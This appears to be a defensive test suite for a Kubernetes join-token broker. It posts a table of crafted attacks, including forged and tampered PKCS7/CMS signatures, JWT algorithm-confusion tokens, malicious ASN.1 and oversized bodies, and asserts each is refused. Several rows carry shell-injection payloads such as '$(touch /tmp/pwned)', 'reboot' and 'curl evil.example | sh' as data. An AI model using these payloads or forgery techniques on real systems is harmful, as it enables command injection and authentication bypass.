/**
 * Issue 10, hostile input: a table of crafted attacks posted to the built Worker in workerd
 * against the Kubernetes API emulator. Each row names the answer it must get (status and stable
 * problem code), and no row may mint a token: the emulator's broker Secrets are counted before
 * and after each one. The legitimate joins at the top of the file show that count does move.
 *
 * Signers, all made for this run with openssl: the dev signer (trusted for every region, as
 * `npm start` does), an "eu" signer trusted only for eu-west-1, a stranger nobody trusts, and an
 * impostor whose self-made certificate copies the dev signer's subject and serial number.
 * OIDC: two issuers with an inline JWKS (a key generated here), one whose pool uses the identity
 * verbatim as the node name, one whose pool derives the name (node-name.ts).
 */
import { ContentInfo, SignedData } from '@peculiar/asn1-cms';
import { AsnConvert } from '@peculiar/asn1-schema';
import { SignJWT, exportJWK } from 'jose';
import { createHmac, createPrivateKey, createSign, generateKeyPairSync, X509Certificate, type KeyObject } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { attribute, craftSignedData, derOctets, derOid, digestOf, OID } from '../attest/cms/craft.js';
import { createPki, type Pki, type TestSigner } from '../attest/cms/pki.js';
import { run } from '../support/run.js';
import { assertContract, brokerClient, join, joinText, type BrokerClient, type JoinProvider } from './client.js';
import { brokerSecrets, devSigner, instanceDocument, signDocument, startStack, type InstanceDocument, type Stack } from './stack.js';

const AUDIENCE = 'https://broker.test';
const VERBATIM_ISSUER = 'https://issuer-verbatim.test';
const DERIVED_ISSUER = 'https://issuer-derived.test';
/** Every document field that can reach a node name, through this pool's template. */
const EVERY_FIELD_TEMPLATE = '{{instanceId}}.{{account}}.{{zone}}.{{region}}.{{attributes.instanceType}}.{{attributes.imageId}}.{{attributes.privateIp}}';

let stack: Stack;
let broker: BrokerClient;
let pki: Pki;
let eu: TestSigner;
let stranger: TestSigner;
let impostor: TestSigner;
let dev: { key: KeyObject; certDer: Uint8Array; certPath: string; keyPath: string };
let issuerKey: KeyObject;
let issuerPublicPem: string;
let issuerPublicDer: Buffer;
let attackerKey: KeyObject;
let attackerPublicJwk: Record<string, unknown>;
const KID = 'issuer-key-1';

beforeAll(async () => {
  pki = createPki();
  eu = pki.signer('eu-only');
  stranger = pki.signer('stranger');
  const devPem = readFileSync(devSigner().certPath, 'utf8');
  const devCert = new X509Certificate(devPem);
  impostor = pki.signer('impostor', { subject: `/${devCert.subject.replaceAll('\n', '/')}`, serial: `0x${devCert.serialNumber}` });
  dev = { ...devSigner(), key: createPrivateKey(readFileSync(devSigner().keyPath)), certDer: new Uint8Array(devCert.raw) };

  const issuer = generateKeyPairSync('rsa', { modulusLength: 2048 });
  issuerKey = issuer.privateKey;
  issuerPublicPem = issuer.publicKey.export({ type: 'spki', format: 'pem' }).toString();
  issuerPublicDer = issuer.publicKey.export({ type: 'spki', format: 'der' });
  const attacker = generateKeyPairSync('rsa', { modulusLength: 2048 });
  attackerKey = attacker.privateKey;
  attackerPublicJwk = { ...(await exportJWK(attacker.publicKey)) };
  const jwks = { keys: [{ ...(await exportJWK(issuer.publicKey)), kid: KID, alg: 'RS256', use: 'sig' }] };
  const oidcIssuer = (issuer: string) => ({ issuer, jwks, algorithms: ['RS256'], audience: AUDIENCE, identityClaim: 'sub' });

  stack = await startStack({
    policy: JSON.stringify({
      pools: [{ name: 'workers', nodeName: EVERY_FIELD_TEMPLATE }, { name: 'oidc-verbatim', nodeName: '{{instanceId}}' }, { name: 'oidc-derived' }],
      rules: [
        { pool: 'workers', provider: 'aws', accounts: ['111122223333'] },
        { pool: 'oidc-verbatim', provider: 'oidc', accounts: [VERBATIM_ISSUER] },
        { pool: 'oidc-derived', provider: 'oidc', accounts: [DERIVED_ISSUER] },
      ],
      aws: {
        extraCertificates: [
          { regions: ['*'], certificate: devPem },
          { regions: ['eu-west-1'], certificate: eu.certPem },
        ],
      },
      oidc: { issuers: [oidcIssuer(VERBATIM_ISSUER), oidcIssuer(DERIVED_ISSUER)] },
    }),
    rateLimits: { JOIN_RATE_LIMIT_BY_ADDRESS: { simple: { limit: 10_000, period: 60 } } },
  });
  broker = brokerClient(stack);
});
afterAll(async () => {
  await stack?.stop();
  pki?.cleanup();
});

const minted = () => brokerSecrets(stack.cluster).length;
const encoder = new TextEncoder();
const documentText = (overrides: Partial<InstanceDocument> = {}) => JSON.stringify(instanceDocument(overrides), null, 2);
const base64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64');
const b64url = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');

/** A JWT from `iss` for `sub`, valid now, signed by the issuer's key unless told otherwise. */
function jwt(iss: string, sub: string, options: { key?: KeyObject; alg?: string; header?: Record<string, unknown> } = {}): Promise<string> {
  const now = Math.floor(Date.now() / 1000);
  return new SignJWT({})
    .setProtectedHeader({ alg: options.alg ?? 'RS256', kid: KID, ...options.header })
    .setIssuer(iss)
    .setAudience(AUDIENCE)
    .setSubject(sub)
    .setIssuedAt(now - 5)
    .setExpirationTime(now + 300)
    .sign(options.key ?? issuerKey);
}
/** A JWT signed with HMAC-SHA256 under `secret`: the RS256→HS256 confusion. */
function hs256(iss: string, sub: string, secret: string | Buffer): string {
  const input = `${b64url({ alg: 'HS256', typ: 'JWT', kid: KID })}.${b64url(claims(iss, sub))}`;
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}
function unsigned(iss: string, sub: string, alg: string): string {
  return `${b64url({ alg, typ: 'JWT' })}.${b64url(claims(iss, sub))}.`;
}
const claims = (iss: string, sub: string) => {
  const now = Math.floor(Date.now() / 1000);
  return { iss, aud: AUDIENCE, sub, iat: now - 5, exp: now + 300 };
};
/** RS256 by the issuer's key over any header (jose refuses to sign some of the headers tried here). */
function rs256(header: Record<string, unknown>, payload: Record<string, unknown>): string {
  const input = `${b64url(header)}.${b64url(payload)}`;
  return `${input}.${createSign('sha256').update(input).sign(issuerKey).toString('base64url')}`;
}

/** A dev-signed PKCS7 crafted with @peculiar/asn1-cms, breaking one thing about its signed attributes. */
const crafted = (attributes: Parameters<typeof craftSignedData>[0]['attributes'], content = encoder.encode(documentText()), tamper?: (bytes: Uint8Array) => Uint8Array) =>
  base64(craftSignedData({ content, key: dev.key, cert: dev.certDer, attributes, ...(tamper === undefined ? {} : { tamperSignedBytes: tamper }) }));

/** Re-encodes an openssl-made PKCS7 after changing its SignedData. */
function reencoded(pem: string, change: (signed: SignedData) => void): string {
  const der = Buffer.from(pem.replace(/-----[A-Z ]+-----/g, '').replace(/\s/g, ''), 'base64');
  const info = AsnConvert.parse(der, ContentInfo);
  const signed = AsnConvert.parse(info.content, SignedData);
  change(signed);
  info.content = AsnConvert.serialize(signed);
  return base64(new Uint8Array(AsnConvert.serialize(info)));
}

// --- ASN.1 shapes a parser must survive ----------------------------------------------------------
const nestedDefinite = (depth: number): Uint8Array => {
  let inner = new Uint8Array([0x05, 0x00]);
  for (let i = 0; i < depth; i++) {
    const outer = new Uint8Array(inner.length + 4);
    outer.set([0x30, 0x82, inner.length >> 8, inner.length & 0xff]);
    outer.set(inner, 4);
    inner = outer;
    if (inner.length > 0xfff0) break;
  }
  return inner;
};
const nestedIndefinite = (depth: number): Uint8Array =>
  new Uint8Array([...Array.from({ length: depth }, () => [0x30, 0x80]).flat(), 0x05, 0x00, ...Array.from({ length: depth }, () => [0x00, 0x00]).flat()]);
const SIGNED_DATA_OID = [0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x02];

type Body = string | Uint8Array<ArrayBuffer>;
type Attack = [name: string, path: string, status: number, code: string, body: () => Promise<Body>];

const doc = (overrides: Partial<InstanceDocument>) => () => signDocument(instanceDocument(overrides));
const FIELDS_WITH = (field: keyof InstanceDocument, values: string[]): Attack[] =>
  values.map((value) => [`${field} = ${JSON.stringify(value)}`, '/v1/join/aws', 403, 'invalid_claims', doc({ [field]: value })]);
const SHELL_AND_YAML = (valid: string): string[] => [
  `${valid}$(touch /tmp/pwned)`,
  `${valid}'; reboot #`,
  `${valid}\`id\``,
  `${valid}\nkind: Evil`,
  `${valid}: {a: *b} # &c !!str |`,
  `${valid} "--token=x"`,
];

describe('legitimate joins in this file mint (so "nothing minted" below can fail)', () => {
  it('a dev-signed document: every field of it in the node name', async () => {
    const before = minted();
    const document = instanceDocument({ instanceType: 'm5.large', imageId: 'ami-0abcdef1234567890', privateIp: '10.0.1.23' });
    const { data, error } = await join(broker, 'aws', await signDocument(document));
    expect(error).toBeUndefined();
    expect(data!.nodeName).toBe(`${document.instanceId}.111122223333.us-east-1a.us-east-1.m5.large.ami-0abcdef1234567890.10.0.1.23`);
    expect(minted()).toBe(before + 1);
  });

  it("the eu-only signer's eu-west-1 document (the key is trusted, for its own region)", async () => {
    const before = minted();
    const document = instanceDocument({ region: 'eu-west-1', availabilityZone: 'eu-west-1b' });
    const { error } = await join(broker, 'aws', await signDocument(document, eu));
    expect(error).toBeUndefined();
    expect(minted()).toBe(before + 1);
  });

  it('an RS256 token of the verbatim issuer', async () => {
    const before = minted();
    const { error } = await join(broker, 'oidc', await jwt(VERBATIM_ISSUER, `node-${Date.now()}`));
    expect(error).toBeUndefined();
    expect(minted()).toBe(before + 1);
  });

  it('an OIDC identity full of shell and YAML markup joins under a derived name that carries none of it, and its script is clean', async () => {
    const identity = `node-1'; curl evil.example | sh # $(id)\`x\` {a: b} ${Date.now()}`;
    const before = minted();
    const { text, error } = await joinText(broker, 'oidc', await jwt(DERIVED_ISSUER, identity), { format: 'script' });
    expect(error).toBeUndefined();
    const script = text!;
    const nodeName = /^node-1-curl-evil-example-sh-id-x-a-b-\d+--[0-9a-f]{12}$/;
    expect(script).toMatch(new RegExp(nodeName.source.slice(1, -1)));
    for (const fragment of ["'; curl", '$(id)', '`x`', '{a: b}']) expect(script).not.toContain(fragment);
    const check = await run('shellcheck', ['-s', 'sh', '-'], script);
    expect(check.stdout + check.stderr).toBe('');
    expect(minted()).toBe(before + 1);
  });

  it('an OIDC identity with a look-alike letter joins under a derived name that cannot pass for the ASCII one', async () => {
    const { data, error } = await join(broker, 'oidc', await jwt(DERIVED_ISSUER, `n\u043ede-${Date.now()}`));
    expect(error).toBeUndefined();
    expect(data!.nodeName).toMatch(/^n-de-\d+--[0-9a-f]{12}$/);
  });
});

describe('crafted attacks: each refused with its code, nothing minted', () => {
  const realAws = readFileSync('test/fixtures/aws/teleport-2021-us-west-2.rsa2048', 'utf8');
  const realAwsDocument = readFileSync('test/fixtures/aws/teleport-2021-us-west-2.document.json', 'utf8');
  const coderDocument = readFileSync('test/fixtures/aws/coder-2022-us-east-1.document.json', 'utf8');
  const coderSignature = readFileSync('test/fixtures/aws/coder-2022-us-east-1.signature', 'utf8');
  const pkcs7Of = (pem: string) => pem.replace(/-----[A-Z ]+-----/g, '').replace(/\s/g, '');
  const instance = instanceDocument();

  const attacks: Attack[] = [
    // Document substitution: claims must come from the signed bytes only.
    ['substitution: real AWS PKCS7 + its document edited to a policy account', '/v1/join/aws', 403, 'document_mismatch', async () =>
      JSON.stringify({ pkcs7: realAws.replace(/\s/g, ''), document: realAwsDocument.replace('278576220453', '111122223333') })],
    ['substitution: real AWS PKCS7 + its document reformatted (same claims)', '/v1/join/aws', 403, 'document_mismatch', async () =>
      JSON.stringify({ pkcs7: realAws.replace(/\s/g, ''), document: JSON.stringify(JSON.parse(realAwsDocument)) })],
    ['substitution: dev-signed PKCS7 of one instance + the document of another', '/v1/join/aws', 403, 'document_mismatch', async () =>
      JSON.stringify({ pkcs7: pkcs7Of(await signDocument(instance)), document: documentText({ instanceId: 'i-0fffffffffffffff0' }) })],
    ['substitution: real AWS signature form, document edited to a policy account', '/v1/join/aws', 403, 'invalid_signature', async () =>
      JSON.stringify({ document: coderDocument.replace(/"accountId" ?: ?"\d+"/, '"accountId" : "111122223333"'), signature: coderSignature })],

    // Another region's key.
    ["another region's key: a us-east-1 document signed by the key trusted only for eu-west-1", '/v1/join/aws', 403, 'invalid_signature', () =>
      signDocument(instanceDocument(), eu)],
    ["another region's key: a real us-west-2 PKCS7 with its region edited to us-west-1", '/v1/join/aws', 403, 'invalid_signature', async () => {
      const der = Buffer.from(realAws.replace(/\s/g, ''), 'base64');
      const at = der.indexOf('"us-west-2"');
      der[at + 9] = '1'.charCodeAt(0);
      return der.toString('base64');
    }],

    // Re-signed content with a self-made certificate.
    ["re-signed: a real AWS document's content signed by a self-made certificate", '/v1/join/aws', 403, 'invalid_signature', async () =>
      pki.cmsSign(stranger, encoder.encode(realAwsDocument))],
    ['re-signed: a policy document signed by a self-made certificate, embedded in the PKCS7', '/v1/join/aws', 403, 'invalid_signature', async () =>
      (await run('openssl', ['cms', '-sign', '-binary', '-nodetach', '-md', 'sha256', '-signer', stranger.certPath, '-inkey', stranger.keyPath, '-outform', 'PEM'], documentText())).stdout],
    ["re-signed: an impostor certificate copying the trusted signer's issuer and serial", '/v1/join/aws', 403, 'invalid_signature', () =>
      signDocument(instanceDocument(), impostor)],

    // Signed attributes: missing, duplicated, or not what the signature covers.
    ['signed attributes: messageDigest missing', '/v1/join/aws', 403, 'invalid_signature', async () => crafted((d) => [d[0]!])],
    ['signed attributes: contentType missing', '/v1/join/aws', 403, 'invalid_signature', async () => crafted((d) => [d[1]!])],
    ['signed attributes: messageDigest twice', '/v1/join/aws', 403, 'invalid_signature', async () => crafted((d) => [...d, d[1]!])],
    ['signed attributes: contentType twice', '/v1/join/aws', 403, 'invalid_signature', async () => crafted((d) => [d[0]!, ...d])],
    ['signed attributes: messageDigest with two values (another document\'s digest first)', '/v1/join/aws', 403, 'invalid_signature', async () => {
      const content = encoder.encode(documentText());
      return crafted((d) => [d[0]!, attribute(OID.messageDigest, derOctets(digestOf('sha256', encoder.encode(documentText()))), derOctets(digestOf('sha256', content)))], content);
    }],
    ['signed attributes: messageDigest of other content', '/v1/join/aws', 403, 'invalid_signature', async () =>
      crafted((d) => [d[0]!, attribute(OID.messageDigest, derOctets(digestOf('sha256', encoder.encode(documentText()))))])],
    ['signed attributes: contentType naming another type (id-ct-TSTInfo)', '/v1/join/aws', 403, 'invalid_signature', async () =>
      crafted((d) => [attribute(OID.contentType, derOid(OID.tstInfo)), d[1]!])],
    ['signed attributes stripped from an openssl signature over them (-noattr shape, attribute signature)', '/v1/join/aws', 403, 'invalid_signature', async () =>
      reencoded(await signDocument(instanceDocument()), (signed) => void (signed.signerInfos[0]!.signedAttrs = undefined))],
    ['signed attributes added to an openssl -noattr signature (which covers the content only)', '/v1/join/aws', 403, 'invalid_signature', async () => {
      const content = documentText();
      const noattr = await signDocument(content, undefined, ['-noattr']);
      const withAttrs = AsnConvert.parse(Buffer.from(pkcs7Of(crafted(undefined, encoder.encode(content))), 'base64'), ContentInfo);
      const attrs = AsnConvert.parse(withAttrs.content, SignedData).signerInfos[0]!.signedAttrs;
      return reencoded(noattr, (signed) => void (signed.signerInfos[0]!.signedAttrs = attrs));
    }],

    // Algorithm confusion on /v1/join/oidc (the issuer allows RS256 only).
    ['alg confusion: alg "none", empty signature', '/v1/join/oidc', 403, 'invalid_signature', async () => unsigned(VERBATIM_ISSUER, 'node-none', 'none')],
    ['alg confusion: alg "None"', '/v1/join/oidc', 403, 'invalid_signature', async () => unsigned(VERBATIM_ISSUER, 'node-none', 'None')],
    ['alg confusion: HS256 keyed with the issuer\'s public key (PEM)', '/v1/join/oidc', 403, 'invalid_signature', async () => hs256(VERBATIM_ISSUER, 'node-hs', issuerPublicPem)],
    ['alg confusion: HS256 keyed with the issuer\'s public key (DER)', '/v1/join/oidc', 403, 'invalid_signature', async () =>
      hs256(VERBATIM_ISSUER, 'node-hs', issuerPublicDer)],
    ['alg confusion: PS256 (a real RSA signature, but not an algorithm the issuer uses)', '/v1/join/oidc', 403, 'invalid_signature', () => jwt(VERBATIM_ISSUER, 'node-ps', { alg: 'PS256' })],
    ["key confusion: RS256 by the attacker's key under the issuer's kid", '/v1/join/oidc', 403, 'invalid_signature', () => jwt(VERBATIM_ISSUER, 'node-x', { key: attackerKey })],
    ["key confusion: RS256 by the attacker's key, its public key embedded as the header's jwk", '/v1/join/oidc', 403, 'invalid_signature', async () =>
      jwt(VERBATIM_ISSUER, 'node-x', { key: attackerKey, header: { jwk: attackerPublicJwk, kid: 'attacker' } })],
    ['an unconfigured issuer', '/v1/join/oidc', 403, 'invalid_signature', () => jwt('https://evil.example', 'node-x')],
    ['a crit header the broker does not understand (correctly signed)', '/v1/join/oidc', 403, 'unsupported_document', async () =>
      rs256({ alg: 'RS256', kid: KID, crit: ['x-policy'], 'x-policy': 'ignore-exp' }, claims(VERBATIM_ISSUER, 'node-crit'))],

    // ASN.1 shapes: deep nesting, lengths far beyond the bytes present.
    ['ASN.1: 11,000 nested definite-length SEQUENCEs (as deep as 64 KiB of base64 allows)', '/v1/join/aws', 400, 'malformed_document', async () => base64(nestedDefinite(11_000))],
    ['ASN.1: 10,000 nested indefinite-length SEQUENCEs', '/v1/join/aws', 400, 'malformed_document', async () => base64(nestedIndefinite(10_000))],
    ['ASN.1: a SEQUENCE claiming 4 GiB', '/v1/join/aws', 400, 'malformed_document', async () => base64(new Uint8Array([0x30, 0x84, 0xff, 0xff, 0xff, 0xff, ...SIGNED_DATA_OID]))],
    ['ASN.1: an 8-byte length (2^63 - 1)', '/v1/join/aws', 400, 'malformed_document', async () => base64(new Uint8Array([0x30, 0x88, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, ...SIGNED_DATA_OID]))],
    ['ASN.1: a 127-byte length field', '/v1/join/aws', 400, 'malformed_document', async () => base64(new Uint8Array([0x30, 0xff, ...new Array(127).fill(0xff), ...SIGNED_DATA_OID]))],
    ['ASN.1: a signedData ContentInfo whose [0] claims 2^31 bytes', '/v1/join/aws', 400, 'malformed_document', async () =>
      base64(new Uint8Array([0x30, 0x80, ...SIGNED_DATA_OID, 0xa0, 0x84, 0x80, 0x00, 0x00, 0x00, 0x30, 0x00, 0x00, 0x00]))],
    ['ASN.1: a real PKCS7 truncated by one byte', '/v1/join/aws', 400, 'malformed_document', async () => Buffer.from(realAws.replace(/\s/g, ''), 'base64').subarray(0, -1).toString('base64')],

    // Oversized bodies (limit 64 KiB): see the raw-connection cases after the table.

    // Shell and YAML markup in every document field that reaches a node name, script or kubeconfig.
    ...FIELDS_WITH('instanceId', SHELL_AND_YAML('i-0123456789abcdef0')),
    ...FIELDS_WITH('privateIp', SHELL_AND_YAML('10.0.1.23')),
    ...FIELDS_WITH('region', SHELL_AND_YAML('us-east-1')),
    ...FIELDS_WITH('accountId', SHELL_AND_YAML('111122223333')),
    ...FIELDS_WITH('availabilityZone', SHELL_AND_YAML('us-east-1a')),
    ...FIELDS_WITH('instanceType', SHELL_AND_YAML('m5.large')),
    ...FIELDS_WITH('imageId', SHELL_AND_YAML('ami-0abcdef1234567890')),
    ['OIDC identity with shell markup, used verbatim as the node name', '/v1/join/oidc', 403, 'invalid_claims', () => jwt(VERBATIM_ISSUER, 'node-1$(touch /tmp/pwned)')],
    ['OIDC identity with a newline and YAML', '/v1/join/oidc', 403, 'invalid_claims', () => jwt(VERBATIM_ISSUER, 'node-1\nkind: Evil')],
    ['OIDC identity with quotes and spaces', '/v1/join/oidc', 403, 'invalid_claims', () => jwt(VERBATIM_ISSUER, `node-1' "--x" y`)],

    // Unicode look-alikes: refused, never folded into a valid-looking ASCII name.
    ['look-alike: Cyrillic і (U+0456) for the i of the instance ID', '/v1/join/aws', 403, 'invalid_claims', doc({ instanceId: '\u0456-0123456789abcdef0' })],
    ['look-alike: Cyrillic а (U+0430) among the instance ID hex digits', '/v1/join/aws', 403, 'invalid_claims', doc({ instanceId: 'i-0123456789\u0430bcdef0' })],
    ['look-alike: fullwidth digits for the account ID', '/v1/join/aws', 403, 'invalid_claims', doc({ accountId: '\uff11\uff11\uff11\uff11\uff12\uff12\uff12\uff12\uff13\uff13\uff13\uff13' })],
    ['look-alike: Arabic-Indic digits for the account ID', '/v1/join/aws', 403, 'invalid_claims', doc({ accountId: '\u0661\u0661\u0661\u0661\u0662\u0662\u0662\u0662\u0663\u0663\u0663\u0663' })],
    ['look-alike: region us-eаst-1 with a Cyrillic а', '/v1/join/aws', 403, 'invalid_claims', doc({ region: 'us-e\u0430st-1', availabilityZone: 'us-e\u0430st-1a' })],
    ['look-alike: zone us-east-1ａ with a fullwidth a', '/v1/join/aws', 403, 'invalid_claims', doc({ availabilityZone: 'us-east-1\uff41' })],
    ['look-alike: private IP with fullwidth digits', '/v1/join/aws', 403, 'invalid_claims', doc({ privateIp: '\uff11\uff10.0.1.23' })],
    ['look-alike: instance type m5.lаrge with a Cyrillic а', '/v1/join/aws', 403, 'invalid_claims', doc({ instanceType: 'm5.l\u0430rge' })],
    ['look-alike: OIDC identity with a Kelvin sign K (U+212A), which lower-cases to ASCII k', '/v1/join/oidc', 403, 'invalid_claims', () => jwt(VERBATIM_ISSUER, 'node-\u212a1')],
    ['look-alike: OIDC identity with a Cyrillic о', '/v1/join/oidc', 403, 'invalid_claims', () => jwt(VERBATIM_ISSUER, 'n\u043ede-1')],
    ['look-alike: OIDC identity with a dotted capital İ (U+0130)', '/v1/join/oidc', 403, 'invalid_claims', () => jwt(VERBATIM_ISSUER, 'node-\u01301')],
  ];

  it('the table covers every attack class of issue 10', () => {
    const classes = ['substitution', "another region's key", 're-signed', 'signed attributes', 'alg confusion', 'ASN.1', 'instanceId =', 'privateIp =', 'region =', 'accountId =', 'availabilityZone =', 'instanceType =', 'imageId =', 'OIDC identity with shell', 'look-alike'];
    for (const name of classes) expect(attacks.some(([row]) => row.includes(name)), name).toBe(true);
  });

  it.each(attacks)('%s (%s) → %i %s', async (_, path, status, code, body) => {
    const payload = await body();
    const before = minted();
    const { response, error } = await join(broker, path.replace('/v1/join/', '') as JoinProvider, payload);
    expect({ status: response.status, code: error?.code }, JSON.stringify(error)).toEqual({ status, code });
    expect(response.headers.get('content-type')).toBe('application/problem+json');
    expect(minted()).toBe(before);
  });

  // Over a raw connection, so the test decides how much of the body is ever sent: the answer
  // must come while the client still holds back the rest (and never writes into a closed socket).
  it.each([
    ['/v1/join/aws', 'announcing 64 KiB + 1 (Content-Length)', { 'content-length': String(64 * 1024 + 1) }],
    ['/v1/join/aws', 'announcing 1 GiB (Content-Length)', { 'content-length': String(1 << 30) }],
    ['/v1/join/aws', 'chunked without Content-Length, 64 KiB + 1 sent', { 'transfer-encoding': 'chunked' }],
    ['/v1/join/oidc', 'announcing 64 KiB + 1 (Content-Length)', { 'content-length': String(64 * 1024 + 1) }],
    ['/v1/join/oidc', 'chunked without Content-Length, 64 KiB + 1 sent', { 'transfer-encoding': 'chunked' }],
  ])('oversized: %s with a body %s, the rest held back → 413 payload_too_large, nothing minted', async (path, _, headers) => {
    const before = minted();
    const { status, body, headers: answered } = await postHoldingBack(stack.worker.url, path, headers);
    await assertContract('POST', path, new Response(body, { status, headers: answered }));
    expect(status).toBe(413);
    expect(JSON.parse(body)).toMatchObject({ code: 'payload_too_large' });
    expect(minted()).toBe(before);
  });
});

/**
 * POSTs with `headers`, sending only the headers (Content-Length given) or one byte more than the
 * limit (chunked), never ending the body, and resolves with the answer.
 */
function postHoldingBack(base: URL, path: string, headers: Record<string, string>): Promise<{ status: number; body: string; headers: Headers }> {
  return new Promise((resolve, reject) => {
    let answered = false;
    const req = httpRequest(new URL(path, base), { method: 'POST', headers }, (res) => {
      answered = true;
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (body += chunk));
      res.on('end', () => {
        const answered = new Headers();
        for (const [name, value] of Object.entries(res.headers)) if (typeof value === 'string') answered.set(name, value);
        resolve({ status: res.statusCode ?? 0, body, headers: answered });
        req.destroy();
      });
    });
    req.on('error', (error) => {
      if (!answered) reject(error);
    });
    if (headers['content-length'] !== undefined) req.flushHeaders();
    else req.write(Buffer.alloc(64 * 1024 + 1, 0x41));
  });
}
